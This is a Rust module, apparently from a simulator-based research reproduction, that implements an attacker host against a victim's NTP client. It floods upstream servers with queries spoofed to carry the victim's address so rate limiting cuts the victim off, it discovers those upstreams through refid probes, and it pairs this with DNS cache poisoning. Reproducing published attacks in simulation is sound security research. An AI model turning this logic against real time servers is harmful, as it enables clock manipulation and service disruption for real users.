//! The run-time attack host (paper §IV-B): rate-limit abuse to break the
//! victim's existing associations, combined with the poisoning pipeline so
//! that the victim's replacement DNS lookup lands on attacker servers.
//!
//! Two knowledge scenarios from §V-A2 / §V-B:
//!
//! * **P1** — the attacker knows the candidate upstream set up front (it
//!   can enumerate `pool.ntp.org`, §IV-B2a) and floods all of them at once.
//! * **P2** — the attacker discovers upstreams one at a time through the
//!   victim's refid leak (§IV-B2b) and extends the flood set as it learns.

use std::collections::BTreeSet;
use std::net::Ipv4Addr;

use netsim::prelude::*;
use ntp::packet::{peek_mode, NtpMode, NtpPacket, NTP_PORT};
use ntp::timestamp::NtpTimestamp;

use crate::pipeline::{PoisonConfig, PoisonPipeline, PoisonStats};

const TICK: TimerToken = 1;

/// Period of the spoofed rate-limit flood (2 Hz); the poisoning pipeline
/// rides the same timer.
pub const FLOOD_INTERVAL: SimDuration = SimDuration::from_millis(500);

/// How the attacker learns the victim's upstream servers.
#[derive(Debug, Clone)]
pub enum RuntimeScenario {
    /// P1: flood this whole candidate set from the start.
    KnownUpstreams {
        /// The candidate upstream servers (the enumerated pool).
        servers: Vec<Ipv4Addr>,
    },
    /// P2: probe the victim's refid periodically, flood what it reveals.
    RefidDiscovery {
        /// Interval between refid probes.
        probe_interval: SimDuration,
    },
}

impl RuntimeScenario {
    /// A stable machine-readable name for records and campaign streams
    /// ("known-upstreams" for P1, "refid-discovery" for P2).
    pub fn label(&self) -> &'static str {
        match self {
            RuntimeScenario::KnownUpstreams { .. } => "known-upstreams",
            RuntimeScenario::RefidDiscovery { .. } => "refid-discovery",
        }
    }
}

/// Counters exposed by the [`RuntimeAttacker`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct RuntimeStats {
    /// Spoofed rate-limit queries sent.
    pub spoofed_queries: u64,
    /// Refid probes sent.
    pub refid_probes: u64,
    /// Distinct upstreams discovered (P2).
    pub upstreams_discovered: u64,
}

/// The run-time attacker host.
#[derive(Debug)]
pub struct RuntimeAttacker {
    /// Embedded poisoning pipeline.
    pub pipeline: PoisonPipeline,
    victim: Ipv4Addr,
    scenario: RuntimeScenario,
    flood_targets: BTreeSet<Ipv4Addr>,
    last_probe: Option<SimTime>,
    /// Counters.
    pub stats: RuntimeStats,
}

impl RuntimeAttacker {
    /// Creates the attacker: poisoning per `poison`, association breaking
    /// against `victim` per `scenario`.
    pub fn new(poison: PoisonConfig, victim: Ipv4Addr, scenario: RuntimeScenario) -> Self {
        let flood_targets = match &scenario {
            RuntimeScenario::KnownUpstreams { servers } => servers.iter().copied().collect(),
            RuntimeScenario::RefidDiscovery { .. } => BTreeSet::new(),
        };
        RuntimeAttacker {
            pipeline: PoisonPipeline::new(poison),
            victim,
            scenario,
            flood_targets,
            last_probe: None,
            stats: RuntimeStats::default(),
        }
    }

    /// Servers currently being flooded.
    pub fn flood_targets(&self) -> Vec<Ipv4Addr> {
        self.flood_targets.iter().copied().collect()
    }

    /// Pipeline counters.
    pub fn poison_stats(&self) -> PoisonStats {
        self.pipeline.stats
    }

    fn flood(&mut self, ctx: &mut Ctx<'_>) {
        // Spoofed mode-3 queries with the victim's source address: the
        // server's limiter attributes them to the victim and silences it.
        let t = NtpTimestamp::at_sim_time(ctx.now());
        let payload = NtpPacket::client_request(t).encode();
        for &server in &self.flood_targets {
            self.stats.spoofed_queries += 1;
            ctx.send_udp_spoofed(self.victim, server, NTP_PORT, NTP_PORT, payload.clone());
        }
    }

    fn probe_refid(&mut self, ctx: &mut Ctx<'_>) {
        self.stats.refid_probes += 1;
        let t = NtpTimestamp::at_sim_time(ctx.now());
        ctx.send_udp(self.victim, NTP_PORT, NTP_PORT, NtpPacket::client_request(t).encode());
    }
}

impl Host for RuntimeAttacker {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        self.pipeline.start(ctx);
        ctx.set_timer(FLOOD_INTERVAL, TICK);
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: TimerToken) {
        if token != TICK {
            return;
        }
        let now = ctx.now();
        self.flood(ctx);
        // The pipeline's work rides the same timer, which fires every
        // `FLOOD_INTERVAL` (2 Hz); `tick` self-limits to its own intervals.
        self.pipeline.tick(ctx);
        if let RuntimeScenario::RefidDiscovery { probe_interval } = self.scenario {
            let due =
                self.last_probe.map(|t| now.saturating_since(t) >= probe_interval).unwrap_or(true);
            if due {
                self.last_probe = Some(now);
                self.probe_refid(ctx);
            }
        }
        ctx.set_timer(FLOOD_INTERVAL, TICK);
    }

    fn on_raw_packet(&mut self, ctx: &mut Ctx<'_>, pkt: &netsim::ipv4::Ipv4Packet) -> bool {
        self.pipeline.handle_raw(ctx.now(), pkt);
        false
    }

    fn on_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) {
        if self.pipeline.handle_datagram(ctx, d) {
            return;
        }
        // Refid probe responses from the victim.
        if d.src == self.victim
            && d.dst_port == NTP_PORT
            && peek_mode(&d.payload) == Some(NtpMode::Server)
        {
            if let Ok(resp) = NtpPacket::decode(&d.payload) {
                if let Some(upstream) = resp.upstream_addr() {
                    if !upstream.is_unspecified() && self.flood_targets.insert(upstream) {
                        self.stats.upstreams_discovered += 1;
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn p1_floods_known_servers_immediately() {
        let servers: Vec<Ipv4Addr> = (1..=4).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
        let attacker = RuntimeAttacker::new(
            PoisonConfig::closed_resolver(
                "10.0.0.53".parse().unwrap(),
                vec!["198.51.100.1".parse().unwrap()],
                "66.66.0.1".parse().unwrap(),
            ),
            "10.0.0.100".parse().unwrap(),
            RuntimeScenario::KnownUpstreams { servers: servers.clone() },
        );
        assert_eq!(attacker.flood_targets(), servers);
    }

    #[test]
    fn p2_starts_with_empty_flood_set() {
        let attacker = RuntimeAttacker::new(
            PoisonConfig::closed_resolver(
                "10.0.0.53".parse().unwrap(),
                vec!["198.51.100.1".parse().unwrap()],
                "66.66.0.1".parse().unwrap(),
            ),
            "10.0.0.100".parse().unwrap(),
            RuntimeScenario::RefidDiscovery { probe_interval: SimDuration::from_secs(60) },
        );
        assert!(attacker.flood_targets().is_empty());
    }
}
